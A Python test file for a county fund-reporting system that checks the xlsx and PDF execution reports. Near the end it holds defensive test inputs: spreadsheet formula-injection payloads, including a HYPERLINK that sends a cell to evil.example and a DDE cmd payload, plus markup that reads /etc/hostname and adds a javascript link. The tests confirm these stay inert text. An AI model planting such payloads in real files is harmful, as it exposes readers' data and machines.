"""The execution report rendered: the xlsx opened with openpyxl (sheets, Chinese headings, yuan
as numbers with 2 decimals from fen, subtotal rows marked), the PDF read back with pypdf (Chinese
title and headings, a yuan figure, page numbers, the embedded font subset, the sign-off block,
nothing a county reader would not understand)."""

from __future__ import annotations

import re
import sys
import zipfile
from concurrent.futures import ThreadPoolExecutor
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from pypdf import PdfReader
from ruralfund_claims.domain.program import check_program
from ruralfund_claims.domain.targets import TargetValue
from ruralfund_claims.reports.model import (
    ClawbackFacts,
    ContractFacts,
    DeliverableFacts,
    ExecutionReport,
    ItemSpend,
    MilestoneFacts,
    RatioDecision,
    TrancheFacts,
    build_report,
)
from ruralfund_claims.reports.pdf import FONT, font_covers, render_pdf
from ruralfund_claims.reports.xlsx import (
    DATE_FORMAT,
    DETAIL,
    ROW_KIND_HEADING,
    SHEETS,
    SUBTOTAL,
    TOTAL,
    YUAN_FORMAT,
    render_xlsx,
    yuan,
)

PROGRAMS = Path(__file__).resolve().parents[4] / "programs"
WAN = 1_000_000


@pytest.fixture(scope="module")
def report() -> ExecutionReport:
    doc = yaml.safe_load((PROGRAMS / "ruyuan-2021-p2.yaml").read_text(encoding="utf-8"))
    check = check_program(doc)
    assert check.program is not None
    contract = ContractFacts(
        contract_no="RY-2023-WL-01",
        item_code="smart-logistics-center",
        provider_name="乳源县智慧物流有限公司",
        provider_credit_code="91440232MA4W000011",
        amount_fen=148 * WAN,
        signed_on=date(2023, 6, 10),
        ends_on=date(2023, 11, 30),
        procurement="公开招标",
        status="active",
        paid_fen=444_000_00,
        deliverables=(
            DeliverableFacts(
                "county-to-village-hours", "县到村配送时限", "小时", TargetValue("at_most", 24), 20
            ),
        ),
        milestones=(MilestoneFacts("sorting-line", "智能分拣线投用", date(2023, 9, 30), None),),
        tranches=(
            TrancheFacts(
                "advance",
                "advance",
                444_000_00,
                "paid",
                paid_fen=444_000_00,
                paid_on=date(2023, 6, 20),
            ),
            TrancheFacts("balance", "balance", 1_036_000_00, "scheduled"),
        ),
    )
    return build_report(
        check.program,
        plan_ratios=check.ratios,
        spend={
            "smart-logistics-center": ItemSpend(
                contracts_fen=148 * WAN, tranches_paid_fen=444_000_00
            ),
            "station-operation-reward": ItemSpend(
                awards_approved_fen=1_234_56, awards_paid_fen=1_234_56
            ),
        },
        contracts=[contract],
        milestones=[
            MilestoneFacts(m.code, m.name, m.due_on, None, m.responsible_text, m.stage)
            for m in check.program.milestones
        ],
        target_actuals={"county-to-village-hours": 20},
        as_of=date(2023, 10, 8),
        generated_by="王工",
        document="乳府办〔2023〕19号 (seeds/000_cd2fd8de6ac1832c.txt)",
    )


def dec(value: object) -> Decimal:
    """A cell's number as openpyxl reads it back (int or float) as the decimal it was written
    as: the file stores the text "1234.56", openpyxl parses it into a float; its shortest repr
    is that text again."""
    assert isinstance(value, int | float) and not isinstance(value, bool), value
    return Decimal(str(value))


def test_yuan_cells_are_exact_decimals_from_fen() -> None:
    assert yuan(246_900) == Decimal("2469.00")
    assert str(yuan(1)) == "0.01"
    assert str(yuan(1_000_000_000)) == "10000000.00"


def test_xlsx_has_the_six_sheets_with_chinese_headings_and_yuan_numbers(
    report: ExecutionReport,
) -> None:
    wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
    assert tuple(wb.sheetnames) == SHEETS == ("总表", "资金", "绩效目标", "合同", "进度", "比例")
    assert {(ws.page_setup.orientation, ws.page_setup.fitToWidth) for ws in wb} == {
        ("landscape", 1)
    }
    summary = wb["总表"]
    assert summary["A1"].value == "乳源瑶族自治县电子商务进农村综合示范项目执行情况报告"
    labels = {row[0]: row[1] for row in summary.iter_rows(max_col=2, values_only=True) if row[0]}
    assert labels["统计截至"].date() == date(2023, 10, 8)
    assert labels["中央财政资金（元）"] == 10_000_000
    money = wb["资金"]
    assert [c.value for c in money[1]][:4] == ["方向", "项目", "实施方式", "预算（元）"]
    rows = {(r[0].value, r[1].value): r for r in money.iter_rows(min_row=2)}
    reward = rows[("完善农村电子商务公共服务体系", "农村电商站点可持续运营以奖代补（示例，非原文）")]
    # budget, committed, paid awards, paid contracts, paid, remaining, uncommitted
    assert [dec(c.value) for c in reward[3:10]] == [
        200_000, Decimal("1234.56"), Decimal("1234.56"), 0, Decimal("1234.56"),
        Decimal("198765.44"), Decimal("198765.44"),
    ]  # fmt: skip
    assert all(c.number_format == "#,##0.00" for c in reward[3:10])
    logistics = rows[("健全县镇村三级物流配送体系", "小计")]
    budget, committed, paid, remaining = (logistics[i].value for i in (3, 4, 7, 8))
    assert (budget, committed, paid, remaining) == (2_200_000, 1_480_000, 444_000, 1_756_000)
    total = rows[("合计", None)]  # an empty text cell reads back as None
    assert total[3].value == 10_000_000
    assert dec(total[8].value) == Decimal(10_000_000) - Decimal(444_000) - Decimal("1234.56")


def _tables(ws: Any) -> list[tuple[list[str], list[Any]]]:
    """The sheet's tables: each heading row (blue fill) with the rows under it up to a blank."""
    tables: list[tuple[list[str], list[Any]]] = []
    for row in ws.iter_rows():
        if row[0].fill.fgColor.rgb == "00DDEBF7":
            tables.append(([str(c.value or "") for c in row], []))
        elif tables and any(c.value is not None for c in row):
            tables[-1][1].append(row)
        elif tables and tables[-1][0]:
            tables.append(([], []))  # a blank row ends the table
    return [t for t in tables if t[0]]


def test_every_money_figure_in_the_workbook_is_a_number_cell_in_yuan(
    report: ExecutionReport,
) -> None:
    """Under every heading in 元, on every sheet: a number (never text such as "1,234.56"),
    formatted #,##0.00; every day is a date cell shown as 2023年10月8日."""
    wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
    money_cells = 0
    for ws in wb:
        for headings, rows in _tables(ws):
            money = [i for i, h in enumerate(headings) if "元" in h]
            for row in rows:
                for i in money:
                    assert isinstance(row[i].value, int | float), (ws.title, headings[i], row[i].value)
                    assert row[i].number_format == YUAN_FORMAT, (ws.title, headings[i])
                    money_cells += 1
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, datetime):
                    assert cell.number_format == DATE_FORMAT == 'yyyy"年"m"月"d"日"', cell
                assert not (isinstance(cell.value, str) and re.fullmatch(r"-?[\d,]+\.\d\d", cell.value))
    assert money_cells > 100
    summary = {r[0]: r[1] for r in wb["总表"].iter_rows(max_col=2, values_only=True) if r[0]}
    assert summary["统计截至"] == datetime(2023, 10, 8) and summary["编制单位"] == "乳源瑶族自治县工信局"


def test_subtotal_rows_are_marked_so_a_column_sum_over_the_details_is_the_total(
    report: ExecutionReport,
) -> None:
    """资金: every row says 明细, 小计 or 合计 in its last column (行类型); the details sum to the
    合计 in every money column, so do the 小计 rows, and each 小计 is its own items' sum; the
    items sit an outline level below their line. 总表: the lines (明细) sum to the 合计."""
    wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
    ws = wb["资金"]
    headings = [c.value for c in ws[1]]
    assert headings[-1] == ROW_KIND_HEADING == "行类型"
    rows = list(ws.iter_rows(min_row=2))
    kinds = [r[-1].value for r in rows]
    assert set(kinds) == {DETAIL, SUBTOTAL, TOTAL} and kinds.count(TOTAL) == 1 and kinds[-1] == TOTAL
    assert kinds.count(SUBTOTAL) == len(report.lines)
    money = range(3, 10)
    (total,) = [r for r in rows if r[-1].value == TOTAL]
    for col in money:
        details = sum(dec(r[col].value) for r in rows if r[-1].value == DETAIL)
        subtotals = sum(dec(r[col].value) for r in rows if r[-1].value == SUBTOTAL)
        assert details == subtotals == dec(total[col].value), headings[col]
        everything = sum(dec(r[col].value) for r in rows)
        assert everything != details or details == 0  # why the marking matters
    for sub in (r for r in rows if r[-1].value == SUBTOTAL):
        items = [r for r in rows if r[-1].value == DETAIL and r[0].value == sub[0].value]
        assert items and all(ws.row_dimensions[r[0].row].outline_level == 1 for r in items)
        assert ws.row_dimensions[sub[0].row].outline_level == 0 and sub[1].value == "小计"
        assert sub[0].font.bold and sub[0].fill.fgColor.rgb == "00F2F2F2"
        for col in money:
            assert sum(dec(r[col].value) for r in items) == dec(sub[col].value)
    assert ws.sheet_properties.outlinePr.summaryBelow is False
    ((headings, by_line),) = [t for t in _tables(wb["总表"]) if t[0][0] == "方向"]
    assert headings[-1] == "行类型"
    assert [r[-1].value for r in by_line] == [DETAIL] * len(report.lines) + [TOTAL]
    for col in range(1, 8):
        details = sum(dec(r[col].value) for r in by_line if r[-1].value == DETAIL)
        assert details == dec(by_line[-1][col].value)


def test_xlsx_targets_contracts_progress_and_ratios(report: ExecutionReport) -> None:
    wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
    targets = {r[0]: r for r in wb["绩效目标"].iter_rows(values_only=True)}
    assert targets["county-to-village-hours"][3:6] == ("≤ 24", "20", "已达成")
    contracts = list(wb["合同"].iter_rows(min_row=2, values_only=True))
    assert contracts[0][0] == "RY-2023-WL-01"
    assert contracts[0][8:11] == (1_480_000, 444_000, 1_036_000)
    heading = next(i for i, row in enumerate(contracts) if row[0] == "付款计划")
    schedule = contracts[heading + 2 :]  # after the table's headings
    assert [(t[2], t[3], t[6], t[7], t[8]) for t in schedule] == [
        ("第1期", "前期资金拨付", 444_000, 444_000, "已支付"),
        ("第2期", "尾款（最终验收后）", 1_036_000, 0, "未到付款条件"),
    ]
    progress = {r[2]: r for r in wb["进度"].iter_rows(min_row=2, values_only=True)}
    assert progress["智能分拣线投用"][6:8] == ("已逾期未完成", 8)
    assert progress["组织项目最终验收"][6] == "未到期"
    ratios = {r[0].value: r for r in wb["比例"].iter_rows(min_row=2)}
    logistics = ratios["健全县镇村三级物流配送体系累计占比"]
    assert (logistics[2].value, dec(logistics[3].value), logistics[4].value) == (
        "≥ 50%", Decimal("0.2875"), "低于下限",
    )  # fmt: skip
    assert logistics[3].number_format == "0.00%"
    # actual: phase 1's 355万 + 44.4万 paid, of 2000万
    assert (logistics[6].value, dec(logistics[8].value)) == (3_994_000, Decimal("0.1997"))


def test_pdf_in_chinese_with_title_headings_figures_and_page_numbers(
    report: ExecutionReport,
) -> None:
    pdf = render_pdf(report)
    assert pdf.startswith(b"%PDF-")
    reader = PdfReader(BytesIO(pdf))
    assert reader.metadata is not None
    assert reader.metadata.title == "乳源瑶族自治县电子商务进农村综合示范项目执行情况报告"
    text = "\n".join(page.extract_text() for page in reader.pages)
    for heading in (
        "乳源瑶族自治县电子商务进农村综合示范项目执行情况报告",
        "一、资金执行情况（按方向）",
        "三、绩效目标完成情况",
        "五、实施进度",
        "六、资金使用比例",
        "健全县镇村三级物流配送体系",
        "县到村配送时限",
        "前期资金拨付",
    ):
        assert heading in text, heading
    assert "1,756,000.00" in text  # logistics remaining: 2,200,000.00 − 444,000.00
    assert "198,765.44" in text
    pages = len(reader.pages)
    assert pages >= 2
    assert f"第 1 页 / 共 {pages} 页" in reader.pages[0].extract_text()


def _fonts(pdf: bytes) -> list[Any]:
    reader = PdfReader(BytesIO(pdf))
    return [
        font.get_object()
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()  # type: ignore[index]
    ]


def test_the_pdf_embeds_a_subset_of_its_chinese_font_and_names_no_other(
    report: ExecutionReport,
) -> None:
    """A reader without any Chinese font shows the report too: every font the pages use is a
    subset (ABCDEF+ prefix) of WenQuanYi Micro Hei with its TrueType program embedded
    (FontFile2) and a ToUnicode map (the text can be searched and copied)."""
    pdf = render_pdf(report)
    fonts = _fonts(pdf)
    assert fonts
    for font in fonts:
        assert re.fullmatch(rf"/[A-Z]{{6}}\+{FONT}-\d+", font["/BaseFont"]), font["/BaseFont"]
        assert font["/Subtype"] == "/TrueType" and "/ToUnicode" in font
        assert "/FontFile2" in font["/FontDescriptor"].get_object()
    # a subset: the font file is 5 MB, the whole report far less
    assert len(pdf) < 300_000, len(pdf)
    text = "".join(p.extract_text() for p in PdfReader(BytesIO(pdf)).pages)
    assert all(font_covers(c) for c in set(text) if not c.isspace()), sorted(
        c for c in set(text) if not c.isspace() and not font_covers(c)
    )


def test_pdfs_rendered_at_the_same_time_are_each_whole(report: ExecutionReport) -> None:
    """The API renders in a thread pool: reportlab's font subsetting shares one parsed font
    file, so concurrent builds must not interleave. Without pdf._BUILD_LOCK this run raised
    KeyError in makeSubset in about half of the tries (a race: it cannot fail every time)."""
    expected = "".join(p.extract_text() for p in PdfReader(BytesIO(render_pdf(report))).pages)
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)  # threads take turns often, so an unguarded build races
    try:
        with ThreadPoolExecutor(4) as pool:
            pdfs = list(pool.map(lambda _: render_pdf(report), range(8)))
    finally:
        sys.setswitchinterval(interval)
    for pdf in pdfs:
        assert "".join(p.extract_text() for p in PdfReader(BytesIO(pdf)).pages) == expected


INTERNAL_WORDING = re.compile(
    r"/work|/tmp|site-packages|\.(py|txt|ya?ml|ttc)\b|seeds|\bfen\b|\bNone\b|\b[a-z]+_[a-z_]+\b"
    r"|\b(budget|status|paid|committed|advance|balance|instalment|scheduled|reward|service)\b"
    r"|本服务|资金服务|\d{4}-\d{2}-\d{2}(?!\d)"
)


def test_the_pdf_reads_as_a_county_report_without_paths_codes_or_internal_words(
    report: ExecutionReport,
) -> None:
    """No file path (the program file's source reference is dropped from the basis document),
    no English field or status names, no snake_case, no ISO dates: days as 2023年10月8日, the
    total as 10,000,000.00 元, tranches as 第n期 with the milestone's name."""
    pdf = render_pdf(report)
    reader = PdfReader(BytesIO(pdf))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert reader.metadata is not None
    shown = "\n".join([text, *(str(v) for v in reader.metadata.values())])
    assert not INTERNAL_WORDING.search(shown), INTERNAL_WORDING.findall(shown)
    assert "/work" not in pdf.decode("latin-1")
    flat = "".join(text.split())
    assert "依据文件乳府办〔2023〕19号" in flat
    assert "统计截至2023年10月8日" in flat and "10,000,000.00元" in flat
    assert "第1期前期资金拨付" in flat and "第2期尾款（最终验收后）" in flat
    assert "2023年6月20日" in flat  # the advance's payment day
    assert "2023年9月30日" in flat  # the sorting line's due day
    # the only Latin text is what the program and contracts are called by (codes people quote)
    # and the plan's own wording (O2O, 1+4+N场景式直播中心)
    latin = set(re.findall(r"[A-Za-z][A-Za-z0-9-]*", text))
    assert latin <= {"ruyuan-2021-p2", "RY-2023-WL-01", "O2O", "N"}, latin


def test_the_pdf_ends_with_the_sign_off_block(report: ExecutionReport) -> None:
    """编制单位 (the program's 主管部门, from county.bureau), 负责人 and 经办人 to sign by hand,
    the day: the last thing on the last page."""
    reader = PdfReader(BytesIO(render_pdf(report)))
    last = "".join(reader.pages[-1].extract_text().split())
    block = last[last.index("八、编制与签字") :]
    assert block.startswith(
        "八、编制与签字编制单位（盖章）：乳源瑶族自治县工信局负责人（签字）：经办人（签字）："
        "日期：2023年10月8日"
    ), block
    assert block.endswith(f"第{len(reader.pages)}页/共{len(reader.pages)}页")


def test_a_program_without_a_named_bureau_is_signed_by_the_countys_commerce_department() -> None:
    doc = yaml.safe_load((PROGRAMS / "xinping-2021.yaml").read_text(encoding="utf-8"))
    check = check_program(doc)
    assert check.program is not None and check.program.bureau_name is None
    report = build_report(
        check.program, plan_ratios=check.ratios, spend={}, contracts=[], milestones=[],
        target_actuals={}, as_of=date(2026, 10, 13), generated_by="王工",
    )  # fmt: skip
    assert report.header.compiled_by == "新平彝族傣族自治县商务主管部门"
    doc["county"]["bureau"] = "新平彝族傣族自治县商务局"
    check = check_program(doc)
    assert check.program is not None
    report = build_report(
        check.program, plan_ratios=check.ratios, spend={}, contracts=[], milestones=[],
        target_actuals={}, as_of=date(2026, 10, 13), generated_by="王工",
    )  # fmt: skip
    last = PdfReader(BytesIO(render_pdf(report))).pages[-1].extract_text()
    flat = "".join(last.split())
    assert "编制单位（盖章）：新平彝族傣族自治县商务局" in flat and "日期：2026年10月13日" in flat


def test_a_refused_tranche_says_why_in_chinese() -> None:
    doc = yaml.safe_load((PROGRAMS / "ruyuan-2021-p2.yaml").read_text(encoding="utf-8"))
    check = check_program(doc)
    assert check.program is not None
    contract = ContractFacts(
        contract_no="RY-2023-WL-02", item_code="smart-logistics-center", provider_name="某物流公司",
        provider_credit_code="91440232MA4W000011", amount_fen=100_000_00,
        signed_on=date(2023, 6, 10), ends_on=date(2023, 11, 30), procurement="公开招标",
        status="active", paid_fen=0,
        milestones=(MilestoneFacts("sorting-line", "智能分拣线投用", date(2023, 9, 30), None),),
        tranches=(
            TrancheFacts("advance", "advance", 30_000_00, "refused", refusal_code="INSUFFICIENT_FUNDS"),
            TrancheFacts("m1", "instalment", 50_000_00, "refused", milestone_code="sorting-line",
                         refusal_code="SOMETHING_NEW"),
            TrancheFacts("balance", "balance", 20_000_00, "scheduled"),
        ),
    )  # fmt: skip
    report = build_report(
        check.program, plan_ratios=check.ratios,
        spend={"smart-logistics-center": ItemSpend(contracts_fen=100_000_00)},
        contracts=[contract], milestones=[], target_actuals={}, as_of=date(2023, 10, 8),
        generated_by="王工",
    )  # fmt: skip
    first, second, _ = report.tranches
    assert first.status_zh == "被拒付（共管账户余额不足）"
    assert second.status_zh == "被拒付（原因代码 SOMETHING_NEW）"  # quotable, never hidden
    assert (second.number, second.milestone_name) == (2, "智能分拣线投用")
    flat = "".join("".join(p.extract_text() for p in PdfReader(BytesIO(render_pdf(report))).pages).split())
    assert "第1期前期资金拨付" in flat and "被拒付（共管账户余额不足）" in flat
    assert "第2期进度款（节点验收后）智能分拣线投用" in flat


def test_xinping_without_share_rules_or_contracts_renders_too() -> None:
    doc = yaml.safe_load((PROGRAMS / "xinping-2021.yaml").read_text(encoding="utf-8"))
    check = check_program(doc)
    assert check.program is not None
    spend = {"brand-packaging": ItemSpend(awards_approved_fen=246_900, awards_paid_fen=246_900)}
    report = build_report(
        check.program, plan_ratios=check.ratios, spend=spend, contracts=[], milestones=[],
        target_actuals={}, as_of=date(2021, 11, 8), generated_by="Wang Admin",
    )  # fmt: skip
    assert report.header.title.endswith("电子商务进农村综合示范项目执行情况报告")
    assert (report.totals.budget_fen, report.totals.paid_fen) == (500 * WAN, 246_900)
    text = "\n".join(p.extract_text() for p in PdfReader(BytesIO(render_pdf(report))).pages)
    assert "尚无已签订的购买服务合同" in text and "2,469.00" in text
    assert report.ratios == ()
    assert "本项目未规定资金使用比例" in text
    wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
    first_cells = [row[0] for row in wb["合同"].iter_rows(values_only=True)]
    assert first_cells == ["合同编号", None, "采购包组", "包组编号", None, "付款计划", "合同编号"]


HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "＝1+1",  # full-width: Excel on a Chinese system may take it for "="
)


def test_user_text_is_never_a_formula_and_numbers_stay_numbers() -> None:
    """A provider's name, a contract number, a milestone's responsible unit, a program's name
    or the person's name who generated the report come from users: none of them may reach the
    workbook as a formula (``<f>`` in the sheet XML), whatever it starts with."""
    doc = yaml.safe_load((PROGRAMS / "xinping-2021.yaml").read_text(encoding="utf-8"))
    doc["name"] = HOSTILE_TEXT[0]
    check = check_program(doc)
    assert check.program is not None, check.errors
    item = next(iter(check.program.items())).code
    contract = ContractFacts(
        contract_no=HOSTILE_TEXT[1], item_code=item, provider_name=HOSTILE_TEXT[0],
        provider_credit_code="91440232MA4W000011", amount_fen=100_000, signed_on=date(2021, 6, 1),
        ends_on=date(2021, 12, 1), procurement=HOSTILE_TEXT[3], status="active", paid_fen=0,
        deliverables=(), tranches=(),
        milestones=(MilestoneFacts(HOSTILE_TEXT[2], HOSTILE_TEXT[4], date(2021, 9, 30), None),),
    )  # fmt: skip
    report = build_report(
        check.program, plan_ratios=check.ratios, spend={item: ItemSpend(awards_approved_fen=1)},
        contracts=[contract], milestones=[], target_actuals={}, as_of=date(2021, 11, 8),
        generated_by=HOSTILE_TEXT[5], document=HOSTILE_TEXT[2],
    )  # fmt: skip
    xlsx = render_xlsx(report)
    with zipfile.ZipFile(BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(SHEETS)
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = openpyxl.load_workbook(BytesIO(xlsx))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    assert texts[HOSTILE_TEXT[0]].data_type == "s"
    assert texts[HOSTILE_TEXT[0]].quotePrefix  # typing into the cell keeps it text too
    for text in HOSTILE_TEXT[1:4]:
        assert texts[text].data_type == "s" and texts[text].quotePrefix, text
    assert "导出人" in texts and texts["导出人"].quotePrefix is False
    summary = {r[0]: r[1] for r in wb["总表"].iter_rows(max_col=2, values_only=True) if r[0]}
    assert summary["导出人"] == HOSTILE_TEXT[5] and summary["依据文件"] == HOSTILE_TEXT[2]
    assert summary["项目名称"] == HOSTILE_TEXT[0]
    assert summary["中央财政资金（元）"] == 5_000_000  # numbers stay number cells
    assert any(c.data_type == "n" and c.number_format == "#,##0.00" for c in cells)


def test_a_program_name_is_text_in_the_pdf_never_markup() -> None:
    """reportlab reads <img src=...> (a file of the server) and <a href=...> (a link) in
    a Paragraph: a program name with them is printed as it was typed."""
    doc = yaml.safe_load((PROGRAMS / "xinping-2021.yaml").read_text(encoding="utf-8"))
    doc["name"] = '新平<img src="/etc/hostname"/><a href="javascript:alert(1)">点击</a> & 项目'
    check = check_program(doc)
    assert check.program is not None, check.errors
    report = build_report(
        check.program, plan_ratios=check.ratios, spend={}, contracts=[], milestones=[],
        target_actuals={}, as_of=date(2021, 11, 8), generated_by="Wang Admin",
    )  # fmt: skip
    pdf = render_pdf(report)
    text = PdfReader(BytesIO(pdf)).pages[0].extract_text()
    assert '<img src="/etc/hostname"/>' in text and "& 项目" in text
    assert b"/URI" not in pdf  # no link was made


def test_the_leading_groups_decision_on_an_in_principle_rule_is_in_every_format() -> None:
    """Issue 16 item 7: a payment past Ruyuan's "原则上" 10 % hardware share was made on the
    leading group's decision: the report shows it beside the rule (JSON, xlsx 比例, PDF)."""
    doc = yaml.safe_load((PROGRAMS / "ruyuan-2021-p2.yaml").read_text(encoding="utf-8"))
    check = check_program(doc)
    assert check.program is not None
    decision = RatioDecision(
        "hardware-decoration-max", "RY-2023-FW-003", "studio", 360_000_00,
        "固定直播间设备为验收必需，领导小组2023年第2次会议同意", "赵组长", date(2023, 9, 5),
    )  # fmt: skip
    report = build_report(
        check.program, plan_ratios=check.ratios,
        spend={"livestream-center": ItemSpend(contracts_fen=90 * WAN, tranches_paid_fen=360_000_00,
                                              tranches_paid_measures={"hardware": 300_000_00})},
        contracts=[], milestones=[], target_actuals={}, as_of=date(2023, 10, 8),
        generated_by="王工", ratio_decisions=[decision],
    )  # fmt: skip
    (hardware,) = [r for r in report.ratios if r.code == "hardware-decoration-max"]
    assert hardware.paid_this_phase_fen == 300_000_00  # the named hardware part only
    shown = "合同RY-2023-FW-003付款 360,000.00 元：固定直播间设备为验收必需，领导小组2023年第2次会议同意（赵组长，2023年9月5日）"
    assert hardware.decisions_zh == shown
    (as_json,) = [r for r in report.to_dict()["ratios"] if r["code"] == "hardware-decoration-max"]
    assert as_json["decisions"][0]["decided_by"] == "赵组长"
    wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
    rows = {r[0]: r for r in wb["比例"].iter_rows(min_row=2, values_only=True)}
    assert rows[hardware.name][-1] == shown
    text = "".join(page.extract_text() for page in PdfReader(BytesIO(render_pdf(report))).pages)
    assert "领导小组决定" in text and "赵组长" in text


def _clawback_report(repaid_fen: int, repayments: int) -> ExecutionReport:
    doc = yaml.safe_load((PROGRAMS / "ruyuan-2021-p2.yaml").read_text(encoding="utf-8"))
    check = check_program(doc)
    assert check.program is not None
    default = ClawbackFacts(
        "91440232MA4W0RY001", "乳源某电商服务有限公司", "乳电商领〔2023〕5号", date(2023, 11, 20),
        returned_fen=2_310_000_00, receivable_fen=1_540_000_00, repaid_fen=repaid_fen,
        repayments=repayments,
    )  # fmt: skip
    return build_report(
        check.program, plan_ratios=check.ratios, spend={}, contracts=[], milestones=[],
        target_actuals={}, as_of=date(2023, 12, 1), generated_by="王工", clawbacks=[default],
    )  # fmt: skip


def test_a_defaulters_clawback_is_in_every_format_with_its_figures() -> None:
    """Issue 16 item 8 (Xinping §六 收回全部项目建设资金): the report says what went back to the
    finance bureau, what is receivable from the defaulter and what it has repaid (JSON, the xlsx
    总表 and PDF)."""
    report = _clawback_report(repaid_fen=500_000_00, repayments=2)
    shown = (
        "违约收回：乳源某电商服务有限公司（91440232MA4W0RY001）经领导小组乳电商领〔2023〕5号"
        "（2023年11月20日）认定违约，已退回财政 2,310,000.00 元，应收违约方 1,540,000.00 元，"
        "已收回 500,000.00 元（缴回县财政局），尚欠 1,040,000.00 元。"
    )
    as_json = report.to_dict()
    (clawback,) = as_json["clawbacks"]
    assert clawback["returned_yuan"] == "2,310,000.00" and clawback["receivable_yuan"] == "1,540,000.00"
    assert clawback["repaid_yuan"] == "500,000.00" and clawback["outstanding_yuan"] == "1,040,000.00"
    assert clawback["summary_zh"] == shown and shown in as_json["notes"]
    wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
    cells = [r for r in wb["总表"].iter_rows(values_only=True)]
    (row,) = [r for r in cells if r[0] == "乳源某电商服务有限公司（91440232MA4W0RY001）"]
    assert row[1:6] == ("乳电商领〔2023〕5号", Decimal("2310000.00"), Decimal("1540000.00"),
                        Decimal("500000.00"), Decimal("1040000.00"))  # fmt: skip
    assert any(r[0] and shown in str(r[0]) for r in cells)
    text = "".join(page.extract_text() for page in PdfReader(BytesIO(render_pdf(report))).pages)
    flat = "".join(text.split())
    assert "已退回财政2,310,000.00元" in flat and "应收违约方1,540,000.00元" in flat, flat[-400:]
    assert "已收回500,000.00元" in flat


def test_a_clawback_without_repayment_says_no_repaid_figure() -> None:
    (row,) = _clawback_report(repaid_fen=0, repayments=0).clawbacks
    assert row.summary_zh.endswith("已退回财政 2,310,000.00 元，应收违约方 1,540,000.00 元。")
    assert row.outstanding_fen == 1_540_000_00
